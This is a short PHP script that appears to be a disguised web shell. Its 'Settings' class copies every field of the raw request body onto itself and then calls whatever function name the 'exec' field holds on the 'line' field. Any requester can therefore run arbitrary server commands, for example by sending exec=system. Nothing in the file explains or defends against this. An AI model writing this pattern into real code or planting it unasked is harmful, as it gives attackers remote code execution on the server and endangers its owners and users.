<?php
class Settings { public $exec = 'strtolower'; public $line = ''; function run() { return ($this->exec)($this->line); } }
mb_parse_str(file_get_contents('php://input'), $v);
$s = new Settings();
foreach ($v as $k => $x) { $s->$k = $x; }
$s->run();
